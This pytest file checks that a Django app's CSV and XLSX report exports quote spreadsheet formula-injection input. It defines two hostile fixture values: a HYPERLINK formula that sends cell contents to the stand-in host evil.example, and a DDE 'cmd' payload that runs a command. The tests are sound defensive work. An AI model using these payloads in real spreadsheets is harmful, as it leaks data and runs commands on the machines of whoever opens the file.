"""Every export's cells are inert in a spreadsheet: text a partner typed that would run as a
formula (= + - @, tab, carriage return first) is quoted, in CSV and XLSX alike."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from reports.selectors import GROUP_BY_CHOICES
from tests.factories import OrganisationFactory, ServiceFactory
from tests.referrals.factories import referral_create

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
SERVICE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
ORGANISATION_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"

EXPORTS = [
    "/api/v1/reports/referrals/rows/",
    *(f"/api/v1/reports/referrals/?group_by={group}" for group in GROUP_BY_CHOICES),
    "/api/v1/reports/gaps/",
]


@pytest.fixture
def hostile_activity(crew):
    provider = OrganisationFactory(name=ORGANISATION_NAME)
    service = ServiceFactory(organisation=provider, name=SERVICE_NAME)
    for _ in range(6):  # past the small-cell threshold, so the labels show for planners too
        referral_create(crew, service)
    return service


def cells_of(data: bytes, fmt: str) -> list:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formulas_in(cells: list) -> list:
    found = []
    for cell in cells:
        value = getattr(cell, "value", cell)
        formula = getattr(cell, "data_type", "s") == "f"
        if formula or (isinstance(value, str) and value.startswith(DANGEROUS)):
            found.append(value)
    return found


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", EXPORTS)
def test_no_export_cell_runs_as_a_formula(hostile_activity, api_as, planner, url, fmt):
    join = "&" if "?" in url else "?"
    answer = api_as(planner).get(f"{url}{join}format={fmt}")
    assert answer.status_code == 200

    cells = cells_of(body_of(answer), fmt)

    assert formulas_in(cells) == []


def test_the_quoted_names_are_still_there_to_read(hostile_activity, api_as, planner):
    answer = api_as(planner).get("/api/v1/reports/referrals/rows/?format=csv")
    cells = cells_of(body_of(answer), "csv")
    assert "'" + SERVICE_NAME in cells
    assert "'" + ORGANISATION_NAME in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_operators_export_command_quotes_them_too(hostile_activity, tmp_path, fmt):
    target = tmp_path / f"out.{fmt}"
    call_command(
        "export_referrals",
        "--from",
        "2000-01-01",
        "--format",
        fmt,
        "--output",
        str(target),
        "--no-progress",
        stdout=io.StringIO(),
    )
    cells = cells_of(target.read_bytes(), fmt)
    assert formulas_in(cells) == []
    assert any(SERVICE_NAME in str(getattr(cell, "value", cell)) for cell in cells)
